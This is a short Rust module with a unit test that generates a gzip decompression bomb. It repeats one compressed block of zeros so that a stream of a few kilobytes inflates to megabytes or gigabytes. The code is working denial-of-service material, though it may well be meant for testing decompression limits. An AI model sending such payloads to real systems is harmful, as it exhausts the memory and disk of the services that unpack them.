//! A gzip stream that decompresses to a thousand times its size.

use flate2::{Compress, Compression, Crc, FlushCompress};

/// Zeros that are compressed once and sent repeatedly.
const STEP: usize = 1 << 20;

/// Gzip of `start`, followed by at least `zeros` zero bytes.
pub(super) fn bomb(start: &[u8], zeros: u64) -> Vec<u8> {
    let nothing = vec![0; STEP];
    let steps = zeros.div_ceil(STEP as u64);
    let mut deflate = Compress::new(Compression::best(), false);
    // Method 8, no name, no time.
    let mut out = b"\x1f\x8b\x08\0\0\0\0\0\0\xff".to_vec();
    let mut crc = Crc::new();
    // After a full flush nothing refers back, so the following bytes can be repeated.
    push(&mut deflate, start, FlushCompress::Full, &mut out);
    crc.update(start);
    let mut step = Vec::new();
    push(&mut deflate, &nothing, FlushCompress::Full, &mut step);
    for _ in 0..steps {
        out.extend_from_slice(&step);
        crc.update(&nothing);
    }
    push(&mut deflate, &[], FlushCompress::Finish, &mut out);
    out.extend_from_slice(&crc.sum().to_le_bytes());
    // Length modulo 2³².
    let length = start.len() as u64 + steps * STEP as u64;
    out.extend_from_slice(&(length as u32).to_le_bytes());
    out
}

/// Compresses all of `bytes`. The buffer is larger than needed, so one call is enough.
fn push(deflate: &mut Compress, bytes: &[u8], flush: FlushCompress, out: &mut Vec<u8>) {
    let mut room = Vec::with_capacity(bytes.len() + bytes.len() / 100 + 1024);
    let _ = deflate.compress_vec(bytes, &mut room, flush);
    out.extend_from_slice(&room);
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn it_is_gzip_and_small() {
        let packed = bomb(b"begin", 10 << 20);
        assert!(packed.len() < 20_000, "{}", packed.len());
        let mut unpacked = Vec::new();
        flate2::read::GzDecoder::new(&packed[..])
            .read_to_end(&mut unpacked)
            .unwrap();
        assert_eq!(unpacked.len(), 5 + (10 << 20));
        assert_eq!(unpacked[..5], *b"begin");
        assert!(unpacked[5..].iter().all(|byte| *byte == 0));
    }
}
